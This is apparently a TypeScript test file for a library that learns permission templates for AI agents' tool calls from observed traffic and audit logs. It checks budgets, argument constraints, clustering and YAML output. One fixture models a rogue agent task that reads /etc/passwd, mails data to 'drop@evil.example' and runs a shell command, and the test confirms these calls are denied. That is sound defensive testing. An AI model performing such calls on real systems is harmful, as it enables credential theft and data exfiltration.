import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'yaml';
import {
  AuditObserver,
  ToolCatalog,
  agentFiles,
  ceilingViolations,
  evaluateSuggestions,
  parseCeiling,
  parseMandate,
  percentile,
  suggest,
  suggestionYaml,
  type AuditRecord,
  type JsonObject,
  type ObservedTask,
} from '@mandate/core';

const catalog = new ToolCatalog({
  tools: [
    { name: 'helpdesk.get_ticket', category: 'read', risk: 'low', data_classes: ['internal'] },
    { name: 'helpdesk.draft_reply', category: 'write', risk: 'medium', data_classes: ['customer-pii'] },
    { name: 'fs.read_file', category: 'read', risk: 'low', data_classes: ['internal'] },
    { name: 'mail.send', category: 'external_sink', risk: 'high', data_classes: ['customer-pii'] },
  ],
});
const toolInfo = (t: string) => catalog.lookup(t);

function task(agent: string, id: string, purpose: string, calls: [string, JsonObject][]): ObservedTask {
  return { agent, task: id, purpose, calls: calls.map(([tool, args]) => ({ tool, args })) };
}

/** a week of a helpdesk agent's traffic */
function helpdeskTraffic(n: number, from = 0): ObservedTask[] {
  return Array.from({ length: n }, (_, k) => {
    const i = k + from;
    return task('spiffe://acme.example/helpdesk', `t${i}`, i % 2 ? 'Triage ticket and draft a reply' : 'Summarise the knowledge base article', [
      ['helpdesk.get_ticket', { ticket_id: `T-${100 + i}` }],
      ['fs.read_file', { path: `/srv/kb/${i % 3 ? 'billing' : 'accounts'}/${i}.md` }],
      ['helpdesk.draft_reply', { ticket_id: `T-${100 + i}`, body: `Dear customer ${i}, thanks.`, urgent: i % 5 === 0 }],
      ...(i % 4 === 0 ? ([['mail.send', { to: `ops${(i / 4) % 2}@acme.example`, priority: 1 + (i % 3) }]] as [string, JsonObject][]) : []),
    ]);
  });
}

describe('mandate suggestions', () => {
  it('denies nothing of the window it was learnt from (budgets at 100)', () => {
    const tasks = helpdeskTraffic(40);
    const s = suggest(tasks, { toolInfo, budgetPercentile: 100 });
    const r = evaluateSuggestions(s, tasks, { toolInfo });
    expect(r.calls).toBeGreaterThan(100);
    expect(r.template.denied).toBe(0);
    expect(r.ceiling.denied).toBe(0);
    expect(r.cluster.denied).toBe(0);
  });

  it('denies nothing but budget overruns of the training window, for any traffic (property)', () => {
    const value = fc.oneof(fc.string({ maxLength: 12 }), fc.integer({ min: 0, max: 50 }), fc.boolean(), fc.constantFrom('/a/b', '/a/c/d', 'x@y.example', 'I-12', 'I-7'));
    const call = fc.tuple(fc.constantFrom('helpdesk.get_ticket', 'fs.read_file', 'mail.send', 'weird tool!'), fc.dictionary(fc.constantFrom('a', 'b', 'c.d', 'x y'), value, { maxKeys: 3 }));
    const t = fc.record({ agent: fc.constantFrom('a1', 'a2'), purpose: fc.array(fc.constantFrom('read', 'ticket', 'send', 'mail', 'ops', 'article', 'draft', 'reply'), { maxLength: 4 }).map((w) => w.join(' ')), calls: fc.array(call, { maxLength: 8 }), ttl: fc.option(fc.integer({ min: 1, max: 3600 }), { nil: undefined }) });
    fc.assert(
      fc.property(fc.array(t, { minLength: 1, maxLength: 12 }), fc.integer({ min: 50, max: 100 }), fc.constantFrom(0.2, 0.5, 0.8, 1), fc.integer({ min: 1, max: 4 }), (raw, p, clusterSimilarity, maxClusters) => {
        const tasks = raw.map((x, i) => ({ ...task(x.agent, `t${i}`, x.purpose, x.calls.filter(([tool]) => tool !== 'weird tool!')), ...(x.ttl !== undefined ? { ttlMs: x.ttl * 1000 } : {}) }));
        const s = suggest(tasks, { toolInfo, budgetPercentile: p, clusterSimilarity, maxClusters });
        const r = evaluateSuggestions(s, tasks, { toolInfo, clusterSimilarity });
        expect(r.template.denied - r.template.budget).toBe(0);
        expect(r.cluster.denied - r.cluster.budget).toBe(0);
        expect(r.ceiling.denied).toBe(0);
        if (p === 100) expect(r.template.denied).toBe(0);
        for (const a of s) {
          const ceiling = parseCeiling(a.ceiling);
          expect(ceilingViolations(parseMandate(a.mandate), ceiling)).toEqual([]);
          for (const c of a.clusters) expect(ceilingViolations(parseMandate(c.mandate), ceiling)).toEqual([]);
        }
      }),
      { numRuns: 150 },
    );
  });

  it('judges a task learnt from by the template of the cluster it taught, even when a later seed is nearer', () => {
    // in purpose order: "aa bb cc dd" seeds a cluster; "aa … hh" is alike enough to join it
    // (4/8), but the seed "cc … hh" that comes after it is nearer (6/8)
    const tasks = [
      task('a', 't1', 'aa bb cc dd', [['fs.read_file', { path: '/a' }]]),
      task('a', 't2', 'aa bb cc dd', [['fs.read_file', { path: '/a' }]]),
      task('a', 't3', 'aa bb cc dd ee ff gg hh', [['mail.send', { to: 'x@acme.example' }]]),
      task('a', 't4', 'cc dd ee ff gg hh', [['helpdesk.get_ticket', { ticket_id: 'T-1' }]]),
      task('a', 't5', 'cc dd ee ff gg hh', [['helpdesk.get_ticket', { ticket_id: 'T-1' }]]),
    ];
    const s = suggest(tasks, { toolInfo, budgetPercentile: 100 });
    const r = evaluateSuggestions(s, tasks, { toolInfo });
    expect(r.cluster.denied).toBe(0);
    const withMail = s[0]?.clusters.find((c) => c.mandate.tools?.some((t) => t.name === 'mail.send'));
    expect(withMail?.words).toEqual(['cc', 'dd', 'ee', 'ff', 'gg', 'hh']);
  });

  it('learns the narrowest template: exact tools, shaped ids, a path prefix, hosts, a range', () => {
    const [s] = suggest(helpdeskTraffic(40), { toolInfo, budgetPercentile: 100 });
    expect(s?.ceiling).toMatchObject({ tools: ['fs.read_file', 'helpdesk.draft_reply', 'helpdesk.get_ticket', 'mail.send'], data_classes: ['customer-pii', 'internal'], environments: ['prod'], max_delegation_depth: 0 });
    const byName = Object.fromEntries((s?.mandate.tools ?? []).map((t) => [t.name, t.args]));
    expect(byName['helpdesk.get_ticket']).toEqual({ ticket_id: { regex: 'T\\-[0-9]{3}' } });
    expect(byName['fs.read_file']).toEqual({ path: { prefix: '/srv/kb' } });
    expect(byName['mail.send']).toEqual({ to: { one_of: ['ops0@acme.example', 'ops1@acme.example'] }, priority: { range: { min: 1, max: 3 } } });
    // the free-text body is open and said to be
    expect(byName['helpdesk.draft_reply']).toEqual({ ticket_id: { regex: 'T\\-[0-9]{3}' }, urgent: { one_of: [false, true] } });
    expect(s?.rules.find((r) => r.arg === 'body')).toMatchObject({ rule: 'text', constrained: false });
    expect(s?.mandate.budgets).toEqual({ calls: 4, per_tool: { 'fs.read_file': 1, 'helpdesk.draft_reply': 1, 'helpdesk.get_ticket': 1, 'mail.send': 1 } });
  });

  it('denies, on a later window, what the training window never did', () => {
    const train = helpdeskTraffic(40);
    const s = suggest(train, { toolInfo, budgetPercentile: 100 });
    const later = [
      ...helpdeskTraffic(10, 40),
      task('spiffe://acme.example/helpdesk', 'evil', 'Triage ticket and draft a reply', [
        ['fs.read_file', { path: '/etc/passwd' }],
        ['mail.send', { to: 'drop@evil.example', priority: 1 }],
        ['shell.exec', { cmd: 'id' }],
      ]),
    ];
    const r = evaluateSuggestions(s, later, { toolInfo });
    expect(r.template.byReason).toMatchObject({ ARG_CONSTRAINT_FAILED: 2, TOOL_NOT_IN_MANDATE: 1 });
    expect(r.ceiling.byReason).toEqual({ TOOL_NOT_IN_CEILING: 1 });
    // the later clean tasks: ticket ids of the same shape, paths in the same folder
    expect(r.template.denied).toBe(3);
  });

  it('sets budgets at the percentile and counts the overruns apart', () => {
    expect(percentile([1, 2, 3, 4, 100], 80)).toBe(4);
    expect(percentile([1, 2, 3, 4, 100], 100)).toBe(100);
    const tasks = Array.from({ length: 20 }, (_, i) => task('a', `t${i}`, 'read', Array.from({ length: i === 19 ? 30 : 3 }, () => ['fs.read_file', { path: '/srv/x' }] as [string, JsonObject])));
    const s = suggest(tasks, { toolInfo, budgetPercentile: 95 });
    expect(s[0]?.mandate.budgets?.calls).toBe(3);
    const r = evaluateSuggestions(s, tasks, { toolInfo });
    expect(r.template).toMatchObject({ denied: 27, budget: 27 });
  });

  it('clusters tasks by purpose and gives each cluster its own narrower template', () => {
    const [s] = suggest(helpdeskTraffic(40), { toolInfo });
    expect(s?.clusters.map((c) => c.tasks)).toEqual([20, 20]);
    const summarise = s?.clusters.find((c) => c.words.includes('summarise'));
    // only the even tasks summarise; mail is sent by every 4th task, all even
    expect(summarise?.mandate.tools?.map((t) => t.name)).toContain('mail.send');
    const triage = s?.clusters.find((c) => c.words.includes('triage'));
    expect(triage?.mandate.tools?.map((t) => t.name)).not.toContain('mail.send');
  });

  it('reads allowed decisions of the audit log inside the window, by agent', () => {
    let seq = 0;
    const rec = (kind: AuditRecord['kind'], ts: number, taskId: string, agentId: string, data: JsonObject): AuditRecord => ({ kind, ts, taskId, agentId, data, seq: ++seq, prevHash: '', hash: '' });
    const o = new AuditObserver({ since: 1000, until: 2000, agent: 'a1' });
    o.fold([
      rec('task.started', 900, 't1', 'a1', { purpose: 'read things', mandate: { purpose: 'read things', environment: 'staging', ttl: 600_000, data_classes: ['internal'] } }),
      rec('decision', 950, 't1', 'a1', { tool: 'early', args: {}, effect: 'allow' }),
      rec('decision', 1000, 't1', 'a1', { tool: 'fs.read_file', args: { path: '/a' }, effect: 'allow' }),
      rec('decision', 1500, 't1', 'a1', { tool: 'mail.send', args: {}, effect: 'deny' }),
      rec('decision', 1600, 't2', 'a2', { tool: 'other', args: {}, effect: 'allow' }),
      rec('decision', 2000, 't1', 'a1', { tool: 'late', args: {}, effect: 'allow' }),
    ]);
    const tasks = o.result();
    expect(tasks).toEqual([{ agent: 'a1', task: 't1', purpose: 'read things', environment: 'staging', ttlMs: 600_000, dataClasses: ['internal'], calls: [{ tool: 'fs.read_file', args: { path: '/a' }, ts: 1000 }] }]);
    const [s] = suggest(tasks);
    expect(s?.ceiling).toMatchObject({ environments: ['staging'], max_ttl: '10m', data_classes: ['internal'] });
    // the template declares the ttl it needs, so it fits a ceiling with a max_ttl
    expect(s?.mandate).toMatchObject({ environment: 'staging', ttl: '10m' });
    expect(ceilingViolations(parseMandate(s?.mandate), parseCeiling(s?.ceiling))).toEqual([]);
  });

  it('writes YAML that parses back into the same ceiling and mandates', () => {
    const s = suggest(helpdeskTraffic(12), { toolInfo });
    const doc = parse(suggestionYaml({ agents: s })) as { agents: { ceiling: unknown; mandate: unknown }[] };
    expect(parseCeiling(doc.agents[0]?.ceiling)).toEqual(parseCeiling(s[0]?.ceiling));
    const files = agentFiles(s[0]!);
    expect(files.map((f) => f.name)).toEqual(['acme.example_helpdesk.ceiling.yaml', 'acme.example_helpdesk.mandate.yaml', 'acme.example_helpdesk.c1.mandate.yaml', 'acme.example_helpdesk.c2.mandate.yaml']);
    for (const f of files.slice(1)) parseMandate(parse(f.text));
  });
});
